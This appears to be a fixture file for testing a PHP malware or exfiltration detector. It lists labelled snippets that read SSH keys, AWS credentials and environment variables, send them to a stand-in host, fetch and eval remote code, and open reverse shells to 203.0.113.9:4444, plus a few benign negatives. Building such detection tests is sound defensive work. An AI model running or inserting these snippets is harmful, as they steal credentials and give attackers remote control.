%% head
<?php
%% secret: at once
$d = file_get_contents(getenv("HOME") . "/.ssh/id_rsa");
%% secret: home of the server
$d = file_get_contents($_SERVER["HOME"]."/.aws/credentials");
%% secret: all variables
$d = json_encode(getenv());
%% secret: all variables by another name
$d = json_encode($_ENV);
%% secret: loop
$d = [];
foreach ([".ssh/id_rsa", ".netrc"] as $n) { $d[$n] = @file_get_contents(getenv("HOME")."/$n"); }
$d = json_encode($d);
%% secret: shell
$d = shell_exec("cat ~/.ssh/id_rsa");
%% secret: function
function g($p) { return file_get_contents($p); }
$d = g(getenv("HOME")."/.ssh/id_rsa");
%% sent: context
file_get_contents("https://qzv-sync.top/c", false, stream_context_create(["http" => ["method" => "POST", "content" => $d]]));
%% sent: query
file_get_contents("https://qzv-sync.top/c?d=" . urlencode($d));
%% sent: curl
$h = curl_init("https://qzv-sync.top/c"); curl_setopt($h, CURLOPT_POSTFIELDS, $d); curl_exec($h);
%% sent: curl with options
$h = curl_init();
curl_setopt_array($h, [CURLOPT_URL => "https://qzv-sync.top/c", CURLOPT_POST => true, CURLOPT_POSTFIELDS => $d]);
curl_exec($h);
%% sent: mail
mail("drop@qzv-sync.top", "x", $d);
%% sent: socket
$s = fsockopen("203.0.113.9", 4444); fwrite($s, $d);
%% sent: interpreter
exec("curl -d " . escapeshellarg($d) . " https://qzv-sync.top/c");
%% code: at once
$c = file_get_contents("https://qzv-sync.top/s");
%% code: curl
$h = curl_init("https://qzv-sync.top/s"); curl_setopt($h, CURLOPT_RETURNTRANSFER, 1); $c = curl_exec($h);
%% code: base64
$c = base64_decode(file_get_contents("https://qzv-sync.top/s"));
%% run: evaluated
eval($c);
%% run: evaluated with a tag
eval("?>" . $c);
%% run: included
file_put_contents("/tmp/a.php", $c); include "/tmp/a.php";
%% run: list of a command
system($c);
%% run: backquotes
echo `$c`;
%% run: file
file_put_contents("/tmp/a.sh", $c);
shell_exec("sh /tmp/a.sh");
%% run: made a function
$f = create_function("", $c); $f();
%% link: socket
$s = fsockopen("203.0.113.9", 4444);
%% link: lasting socket
$s = pfsockopen("tcp://203.0.113.9", 4444);
%% link: stream
$s = stream_socket_client("tcp://203.0.113.9:4444");
%% link: socket in two steps
$s = socket_create(AF_INET, SOCK_STREAM, SOL_TCP);
socket_connect($s, "203.0.113.9", 4444);
%% obey: shell at a number
exec("/bin/sh -i <&3 >&3 2>&3");
%% obey: process with the connection
$p = proc_open("/bin/sh", [0 => $s, 1 => $s, 2 => $s], $pipes);
%% obey: loop over lines
while ($c = fgets($s)) { fwrite($s, shell_exec($c)); }
%% obey: evaluated
while ($c = fgets($s)) { eval($c); }
%% ordinary
$d = 'three of four are done';
%% shown
file_put_contents('out.txt', $c);
echo $c;
